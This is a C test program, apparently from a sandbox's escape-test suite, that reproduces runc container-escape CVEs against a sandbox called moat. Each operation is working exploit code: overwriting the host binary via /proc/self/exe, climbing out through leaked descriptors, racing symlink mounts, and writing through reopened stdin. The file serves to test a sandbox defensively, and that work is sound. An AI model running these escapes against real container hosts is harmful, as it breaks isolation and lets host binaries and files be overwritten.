/* Container escapes known from runc's CVEs, as they would look in moat.
 *   runc exe      CVE-2019-5736: keep /proc/self/exe open, exec another
 *                 program, and reopen the kept descriptor through
 *                 /proc/self/fd for writing, to overwrite the binary the
 *                 sandbox was started from. The runner checks the host copy
 *                 (and build/moat) afterwards.
 *   runc fds      CVE-2024-21626: descriptors leaked into the sandbox (the
 *                 runner starts moat with fd 7 open on a host directory);
 *                 any descriptor above 2 is used to climb out.
 *   runc mount    CVE-2021-30465 and friends: mount onto a symlink whose
 *                 target is outside, and swap the target for a symlink
 *                 while mounting. The runner checks the host's mounts.
 *   runc stdin    reopen standard input, a host file opened read-only,
 *                 through /proc/self/fd/0 for writing. The runner checks
 *                 the host file. */
#include "escape.h"

#include <sys/mount.h>

static void exe_stage2(const char* fdnum) {
  char path[64];
  snprintf(path, sizeof(path), "/proc/self/fd/%s", fdnum);
  const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC};
  for (size_t i = 0; i < 3; i++) {
    int fd = open(path, modes[i] | O_CLOEXEC);
    if (fd < 0) {
      note("reopen of the old exe with mode %#x: %s", modes[i],
           strerror(errno));
      continue;
    }
    ssize_t n = pwrite(fd, "#!/bin/sh\necho pwned\n", 21, 0);
    note("reopened the old exe with mode %#x, wrote %zd", modes[i], n);
    close(fd);
  }
}

static int op_exe(int argc, char** argv) {
  if (argc > 3) {
    exe_stage2(argv[3]);
    return escape_finish();
  }
  int fd = open("/proc/self/exe", O_RDONLY);
  if (fd < 0) {
    note("open /proc/self/exe: %s", strerror(errno));
    return escape_finish();
  }
  int w = open("/proc/self/exe", O_WRONLY);
  note("open /proc/self/exe for writing: %s", w < 0 ? strerror(errno) : "ok");
  if (w >= 0) close(w);
  /* Exec the same program from a copy, so that the original is not busy. */
  char* copy = in_root("/tmp/escape-runc-copy");
  int in = open("/proc/self/exe", O_RDONLY);
  int out = open(copy, O_WRONLY | O_CREAT | O_TRUNC, 0755);
  char buf[65536];
  ssize_t n;
  while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
    if (write(out, buf, n) != n) broken("copy");
  close(in);
  close(out);
  char fdnum[16];
  snprintf(fdnum, sizeof(fdnum), "%d", fd);
  char* args[] = {copy, "exe", "stage2", fdnum, NULL};
  execv(copy, args);
  broken("execv %s: %s", copy, strerror(errno));
  return escape_finish();
}

static int op_fds(void) {
  for (int fd = 3; fd < 64; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    note("descriptor %d is open", fd);
    try_secret_from_dir(fd, "a leaked descriptor");
    try_secret_at(fd, strrchr(secret_path(), '/') + 1, "a leaked descriptor");
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (chdir(path) == 0) try_secret_from_dir(AT_FDCWD, "cwd in a leaked fd");
  }
  try_secret_from_dir(AT_FDCWD, "the starting cwd");
  return escape_finish();
}

static int op_mount(void) {
  char* dir = in_root("/tmp/escape-mnt");
  char target[4096], link[4096];
  mkdir(dir, 0755);
  snprintf(link, sizeof(link), "%s/link", dir);
  unlink(link);
  /* Points at the secret's directory on the host, were it followed there. */
  snprintf(target, sizeof(target), "%s", secret_path());
  *strrchr(target, '/') = 0;
  if (symlink(target, link) != 0) broken("symlink: %s", strerror(errno));
  long r = mount("tmpfs", link, "tmpfs", 0, NULL);
  note("mount tmpfs on a symlink to a host path: %s",
       r == 0 ? "ok" : strerror(errno));
  if (r == 0) umount(link);
  char up[4096];
  unlink(link);
  if (symlink(dotdots(up, sizeof(up), 30, ""), link) == 0) {
    r = mount(link, link, NULL, MS_BIND | MS_REC, NULL);
    note("bind mount of a ../.. symlink onto itself: %s",
         r == 0 ? "ok" : strerror(errno));
    char path[4200];
    snprintf(path, sizeof(path), "%s%s", link, secret_path());
    try_secret_at(AT_FDCWD, path, "a bind-mounted symlink");
    if (r == 0) umount(link);
  }
  /* Swap a directory for a symlink while another process mounts on it. */
  pid_t child = fork();
  if (child == 0) {
    for (int i = 0; i < 2000; i++) {
      unlink(link);
      mkdir(link, 0755);
      rmdir(link);
      if (symlink(target, link) != 0) continue;
    }
    _exit(0);
  }
  for (int i = 0; i < 2000; i++) {
    if (mount("tmpfs", link, "tmpfs", 0, NULL) == 0) {
      note("a racing mount succeeded");
      umount(link);
      break;
    }
  }
  waitpid(child, NULL, 0);
  return escape_finish();
}

static int op_stdin(void) {
  const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
  for (size_t i = 0; i < 3; i++) {
    int fd = open("/proc/self/fd/0", modes[i] | O_CLOEXEC);
    if (fd < 0) {
      note("reopen of stdin with mode %#x: %s", modes[i], strerror(errno));
      continue;
    }
    ssize_t n = write(fd, "pwned\n", 6);
    note("reopened stdin with mode %#x, wrote %zd", modes[i], n);
    close(fd);
  }
  return escape_finish();
}

int main(int argc, char** argv) {
  const char* op = argc > 1 ? argv[1] : "";
  if (strcmp(op, "exe") == 0) return op_exe(argc, argv);
  if (strcmp(op, "fds") == 0) return op_fds();
  if (strcmp(op, "mount") == 0) return op_mount();
  if (strcmp(op, "stdin") == 0) return op_stdin();
  broken("usage: runc exe|fds|mount|stdin");
  return escape_finish();
}
